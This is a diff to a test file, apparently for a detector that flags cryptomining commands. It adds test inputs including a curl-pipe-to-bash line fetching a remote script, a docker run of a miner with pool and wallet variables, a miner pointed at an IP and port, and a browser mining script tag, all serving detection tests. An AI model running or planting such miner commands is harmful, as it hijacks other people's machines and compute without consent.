@@ -27,6 +27,23 @@ def test_a_pool_beside_a_wallet_is_seen_without_its_protocol(command: str):
     assert kinds(command) == {Kind.POOL, Kind.WALLET}
 
 
+@pytest.mark.parametrize(
+    "command",
+    [
+        "!curl -s https://a.example/go.sh | bash -s -- $wallet pool.example.io:10128 $(hostname)",
+        "!docker run -d -e POOL=a.example.io:5555 -e WALLET=here -e THREADS=4 somebody/cache",
+        f"!./tool --url 198.51.100.14:4444 --user {WALLET}.t4",
+    ],
+)
+def test_a_pool_is_seen_by_its_place_or_its_variables(command: str):
+    assert Kind.POOL in kinds(command)
+
+
+def test_what_is_said_to_a_pool_and_a_page_that_mines_are_seen():
+    assert kinds("s.send(f'JOB,{me},MEDIUM'.encode())") == {Kind.POOL}
+    assert kinds("page = \"<script>var m = new Hive.Anonymous('key', {})</script>\"") == {Kind.POOL}
+
+
 def test_a_pool_on_its_usual_port_needs_no_wallet():
     assert kinds("!./tool -o pool.example.io:3333 -u someone.rig -p x") == {Kind.POOL}
 
